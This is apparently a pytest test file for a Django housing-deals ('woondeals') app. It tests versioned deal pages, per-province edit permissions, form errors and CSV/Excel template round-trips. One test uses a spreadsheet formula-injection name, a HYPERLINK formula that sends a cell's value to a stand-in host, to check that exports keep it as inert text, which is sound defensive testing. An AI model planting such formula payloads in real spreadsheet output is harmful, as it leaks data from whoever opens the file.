"""Woondeals in the browser (issue #17): the list as agreed today, one deal as agreed on a date with its
history, the form that records a new version (the province for its own deals, the beheerder for all), field
errors that write nothing, and the template downloaded and loaded through the page."""

import html
import re
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from bouwregie.woondeals import store, template
from bouwregie.woondeals.models import Woondeal, WoondealVersion

from .roles import seat_user

DEAL = {
    "name": "Demo-woondeal Amstelland",
    "provinces": ["PV27"],
    "members": [{"code": "GM0363"}, {"code": "GM0358", "from": "2023-01-01"}],
    "signatories": [{"name": "Woonstichting Demo", "kind": "corporatie", "role": "signed"}],
    "taakstelling_total": 900,
    "taakstelling_segments": {"sociale_huur": 300, "middenhuur_betaalbare_koop": 300, "duur": 300},
    "jaarschijven": {str(y): 100 for y in range(2022, 2031)},
    "corporation_homes": 250,
    "programming": {"2031": 50},
    "source": "Demodata, fictief",
    "valid_from": "2022-10-01",
}


def _text(response) -> str:
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", response.content.decode())))


@pytest.fixture
def people(db):
    return {
        "nh": seat_user("pnh", "Provincie Noord-Holland", "provincie", "PV27", None, "bewerker"),
        "utrecht": seat_user("pu", "Provincie Utrecht", "provincie", "PV26", None, "tafelbeheerder"),
        "lezer": seat_user("lnh", "Provincie NH lezers", "provincie", "PV27", None, "lezer"),
        "beheerder": seat_user("bh", "Platform", "other", None, None, "beheerder"),
    }


def _form(**changes) -> dict:
    """The form as a province fills it for a new woondeal: three municipalities (by name and by code)."""
    form = {
        "code": "WD-20", "naam": "Demo-woondeal Zaanstreek", "provincies": ["PV27"], "geldig_vanaf": "2023-01-01",
        "bron": "Woondeal Zaanstreek (demo)", "reden": "Ondertekend",
        "lid_rijen": "4", "lid-0-gemeente": "Zaanstad", "lid-1-gemeente": "GM0439", "lid-2-gemeente": "oostzaan",
        "lid-2-vanaf": "2024-01-01", "lid-3-gemeente": "",
        "ondertekenaar_rijen": "2", "ondertekenaar-0-naam": "Parteon", "ondertekenaar-0-soort": "corporatie",
        "ondertekenaar-0-rol": "signed", "ondertekenaar-1-naam": "", "ondertekenaar-1-soort": "corporatie",
        "ondertekenaar-1-rol": "signed",
        "taakstelling": "900", "taakstelling_sociale_huur": "300", "taakstelling_middenhuur_betaalbare_koop": "300",
        "taakstelling_duur": "300", "woningen_corporaties": "270",
        **{f"jaarschijf_{y}": "100" for y in range(2022, 2031)}, "programmering_2031": "80",
    }  # fmt: skip
    form.update(changes)
    return {k: v for k, v in form.items() if v is not None}


def test_list_detail_and_as_agreed_on_a_date(client, people):
    store.record("WD-07", DEAL, "a", "eerste")
    store.record("WD-07", {**DEAL, "taakstelling_total": 950, "valid_from": "2025-01-01"}, "b", "actualisatie")
    listed = _text(client.get("/woondeals"))
    assert "WD-07" in listed and "Demo-woondeal Amstelland" in listed and "950" in listed
    assert "Nieuwe woondeal" not in listed  # anonymous: no buttons
    download = client.get("/woondeals?formaat=csv").content.decode("utf-8-sig").splitlines()  # issue #19
    assert download[0] == "Code;Naam;Provincies;Gemeenten;Taakstelling 2022–2030;Van kracht vanaf"
    assert download[1].startswith("WD-07;Demo-woondeal Amstelland;Noord-Holland;") and ";950;2025-01-01" in download[1]
    today = _text(client.get("/woondeals/WD-07"))
    assert "versie 2, geldig vanaf 1-1-2025" in today and "Amsterdam" in today and "Aalsmeer" in today
    assert "De segmenten tellen op tot 900" in today  # the warning of the version shown
    assert "/woondeals/WD-07/voortgang" in client.get("/woondeals/WD-07").content.decode()
    assert "actualisatie" in today and "eerste" in today
    before = client.get("/woondeals/WD-07?op=2024-06-01")
    assert "versie 1, geldig vanaf 1-10-2022" in _text(before) and "tellen op tot" not in _text(before)
    assert "Op 1-6-2024 2 gemeenten" in _text(before)
    early = _text(client.get("/woondeals/WD-07?op=2022-11-01"))
    assert "Op 1-11-2022 1 gemeente:" in early  # Aalsmeer joined on 1 January 2023
    assert "had op 1-1-2020 nog geen afspraak (de eerste afspraak geldt vanaf 1-10-2022)" in _text(
        client.get("/woondeals/WD-07?op=2020-01-01")
    )
    yesterday = date.fromordinal(timezone.localdate().toordinal() - 1)
    shown = _text(client.get(f"/woondeals/WD-07?bekend_op={yesterday.isoformat()}"))
    today = timezone.localdate()
    assert f"was op {yesterday.day}-{yesterday.month}-{yesterday.year} nog niet vastgelegd" in shown
    assert f"(eerste versie vastgelegd op {today.day}-{today.month}-{today.year})" in shown
    assert "was op 1-1-1999 nog niet vastgelegd" in _text(client.get("/woondeals/WD-07?bekend_op=1999-01-01"))
    bad = client.get("/woondeals/WD-07?op=gisteren")
    assert bad.status_code == 400 and "geen geldige datum" in _text(bad)
    assert client.get("/woondeals/WD-99").status_code == 404


def test_a_province_creates_and_edits_its_own_woondeal(client, people):
    client.force_login(people["nh"])
    assert "Nieuwe woondeal" in _text(client.get("/woondeals"))
    assert client.get("/woondeals/nieuw").status_code == 200
    response = client.post("/woondeals/nieuw", _form())
    assert response.status_code == 302 and response.url == "/woondeals/WD-20", _text(response)[:3000]
    version = store.as_agreed_on("WD-20")
    assert [m["code"] for m in version.members] == ["GM0479", "GM0439", "GM0431"]
    assert version.members[2]["from"] == "2024-01-01" and version.author == "pnh"
    assert version.jaarschijven["2027"] == 100 and version.signatories[0]["name"] == "Parteon"
    page = _text(client.get(response.url))
    assert "Opgeslagen als versie 1." in page and "Zaanstad" in page and "Oostzaan" in page
    edit = client.get("/woondeals/WD-20/bewerken")
    assert edit.status_code == 200 and 'value="GM0479"' in edit.content.decode()
    changed = client.post("/woondeals/WD-20/bewerken", _form(code=None, versie="1", taakstelling="1000",
                                                              reden="Actualisatie 2025"))  # fmt: skip
    assert changed.status_code == 302
    page = _text(client.get(changed.url))
    assert "Opgeslagen als versie 2." in page and "De jaarschijven tellen op tot 900" in page  # warning after save
    assert WoondealVersion.objects.filter(woondeal__code="WD-20").count() == 2
    same = client.post("/woondeals/WD-20/bewerken", _form(code=None, versie="2", taakstelling="1000", reden="x"))
    assert same.status_code == 302 and WoondealVersion.objects.filter(woondeal__code="WD-20").count() == 2
    stale = client.post("/woondeals/WD-20/bewerken", _form(code=None, versie="1", naam="Oud", reden="x"))
    assert stale.status_code == 400 and "intussen gewijzigd" in _text(stale)


def test_other_provinces_and_readers_get_403_the_beheerder_edits_all(client, people):
    store.record("WD-07", DEAL, "a", "eerste")
    client.force_login(people["utrecht"])
    assert "Woondeal bewerken" not in _text(client.get("/woondeals/WD-07"))
    assert client.get("/woondeals/WD-07/bewerken").status_code == 403
    assert client.post("/woondeals/WD-07/bewerken", _form(code=None, versie="1")).status_code == 403
    across = client.post("/woondeals/nieuw", _form())  # a Noord-Holland deal entered by Utrecht
    assert across.status_code == 400 and "eigen provincie" in _text(across)
    client.force_login(people["lezer"])
    assert client.get("/woondeals/nieuw").status_code == 403 and client.get("/woondeals/laden").status_code == 403
    client.logout()
    assert client.get("/woondeals/nieuw").status_code == 302  # to the login page
    client.force_login(people["beheerder"])
    assert client.get("/woondeals/WD-07/bewerken").status_code == 200
    assert client.post("/woondeals/nieuw", _form(code="WD-21")).status_code == 302
    assert Woondeal.objects.filter(code="WD-20").count() == 0 and Woondeal.objects.filter(code="WD-21").exists()


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"lid-1-gemeente": "Atlantis"}, "lid-1-gemeente", "Onbekende gemeente 'Atlantis'"),
        ({"reden": ""}, "reden", "Geef de reden van de wijziging."),
        ({"naam": ""}, "naam", "Geef de naam van de woondeal."),
        ({"jaarschijf_2024": "veel"}, "jaarschijf_2024", "Jaarschijf 2024 moet een heel getal"),
        ({"geldig_vanaf": "1-1-2023"}, "geldig_vanaf", "geen geldige datum"),
        ({"code": "Zaan"}, "code", "Een woondealcode heeft de vorm WD-01"),
        ({"lid-2-vanaf": "2030-01-01", "lid-2-tot": "2029-01-01"}, "leden", "ligt niet na 'vanaf'"),
    ],
)
def test_field_errors_are_linked_to_their_field_and_write_nothing(client, people, changes, field, message):
    client.force_login(people["nh"])
    response = client.post("/woondeals/nieuw", _form(**changes))
    page = response.content.decode()
    assert response.status_code == 400 and message in _text(response)
    assert f'href="#{field}"' in page and f'id="{field}-fout"' in page and f'aria-describedby="{field}-fout' in page
    assert f'id="{field}"' in page
    assert not Woondeal.objects.exists()


def test_an_unknown_municipality_is_named_next_to_its_row(client, people):
    client.force_login(people["nh"])
    page = client.post("/woondeals/nieuw", _form(**{"lid-1-gemeente": "Atlantis"})).content.decode()
    assert 'id="lid-1-gemeente"' in page and 'aria-describedby="lid-1-gemeente-fout"' in page
    assert 'value="Atlantis"' in page  # what the user typed stays


def test_template_download_and_load_round_trip_through_the_page(client, people):
    empty = client.get("/woondeals/template.csv")
    assert empty.status_code == 200 and empty.content == ("\ufeff" + ";".join(template.COLUMNS) + "\n").encode()
    assert client.get("/woondeals/template.pdf").status_code == 404
    store.record("WD-07", DEAL, "a", "eerste")
    store.record("WD-08", {**DEAL, "name": "Demo Utrecht", "provinces": ["PV26"], "members": [{"code": "GM0344"}]},
                 "a", "eerste")  # fmt: skip
    filled = client.get("/woondeals/template.csv?gevuld=1").content
    assert filled == template.write(template.export_rows(), "csv")
    assert client.get("/woondeals/template.xlsx?gevuld=1").content[:2] == b"PK"
    client.force_login(people["nh"])
    changed = filled.decode().replace("Demo-woondeal Amstelland", "Demo-woondeal Amstelland-Meerlanden").encode()

    def load(content, reason="Vaststelling 2025", name="woondeals.csv"):
        return client.post("/woondeals/laden", {"bestand": SimpleUploadedFile(name, content), "reden": reason})

    no_reason = load(changed, reason="")
    assert no_reason.status_code == 400 and "Geef de reden van de wijziging." in _text(no_reason)
    other = load(filled.decode().replace("Demo Utrecht", "Demo Utrecht-Oost").encode())  # Utrecht's row
    assert other.status_code == 400 and "Rij 3, kolom provincies, waarde 'PV26'" in _text(other)
    bad = load(changed.decode().replace("GM0358", "GM9999").encode())
    assert bad.status_code == 400 and "Rij 2, kolom gemeenten, waarde 'GM0363, GM9999 vanaf" in _text(bad)
    assert "Onbekende gemeente 'GM9999'" in _text(bad)  # the form's words (woondeals.members)
    assert WoondealVersion.objects.count() == 2  # all or nothing
    preview = load(changed)  # only its own row changed; Utrecht's unchanged row passes
    assert preview.status_code == 200 and WoondealVersion.objects.count() == 2  # nothing written before confirming
    assert "naam: Demo-woondeal Amstelland → Demo-woondeal Amstelland-Meerlanden" in _text(preview)
    loaded = confirm(client, preview)
    assert loaded.status_code == 302 and loaded.url == "/woondeals"
    page = _text(client.get(loaded.url))
    assert "WD-07 → versie 2 (Demo-woondeal Amstelland-Meerlanden)" in page
    assert "WD-08 ongewijzigd (Demo Utrecht)" in page
    version = store.as_agreed_on("WD-07")
    assert (version.number, version.name, version.reason, version.author) == (
        2, "Demo-woondeal Amstelland-Meerlanden", "Vaststelling 2025", "pnh")  # fmt: skip
    assert client.get("/woondeals/template.csv?gevuld=1").content == changed  # round trip
    assert "Gebruik een .csv of .xlsx-bestand" in _text(load(changed, name="woondeals.txt"))
    broken = load(b"geen excel", name="woondeals.xlsx")  # a corrupt file: a message, not a server error
    assert broken.status_code == 400 and "beschadigd" in _text(broken)


def plan_of(preview) -> str:
    """The signed plan the preview's confirm form carries."""
    found = re.search(r'name="plan" value="([^"]+)"', preview.content.decode())
    assert found, _text(preview)[-3000:]
    return html.unescape(found[1])


def confirm(client, preview):
    return client.post("/woondeals/laden", {"plan": plan_of(preview)})


def test_english_pages_render(client, people):
    store.record("WD-07", DEAL, "a", "eerste")
    client.force_login(people["nh"])
    client.post("/taal/setlang/", {"language": "en", "next": "/"})
    for url in ("/woondeals", "/woondeals/WD-07", "/woondeals/WD-07/bewerken", "/woondeals/nieuw", "/woondeals/laden"):
        response = client.get(url)
        assert response.status_code == 200 and '<html lang="en"' in response.content.decode(), url
    client.post("/taal/setlang/", {"language": "nl", "next": "/"})


def test_a_name_that_looks_like_a_formula_stays_text_in_the_template_and_loads_back(client, people, tmp_path):
    """The template is a spreadsheet download like any other (bouwregie.cells, issue #16): a woondeal named
    like a formula is written as inert text in CSV and Excel and read back as the name itself."""
    from openpyxl import load_workbook

    name = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    store.record("WD-07", {**DEAL, "name": name}, "a", "eerste")
    csv_file = client.get("/woondeals/template.csv?gevuld=1").content.decode()
    assert "WD-07;\"'=HYPERLINK(" in csv_file
    path = tmp_path / "woondeals.xlsx"
    path.write_bytes(client.get("/woondeals/template.xlsx?gevuld=1").content)
    cell = load_workbook(path)["woondeals"]["B2"]
    assert cell.data_type == "s" and cell.value == "'" + name
    client.force_login(people["nh"])
    for content, file_name in ((csv_file.encode(), "woondeals.csv"), (path.read_bytes(), "woondeals.xlsx")):
        loaded = client.post("/woondeals/laden", {"bestand": SimpleUploadedFile(file_name, content), "reden": "x"})
        assert loaded.status_code == 200 and "WD-07" in _text(loaded), _text(loaded)[-2000:]
        assert "ongewijzigd; geen nieuwe versie" in _text(loaded) and "Bevestigen" not in _text(loaded)
    assert store.as_agreed_on("WD-07").name == name and WoondealVersion.objects.count() == 1
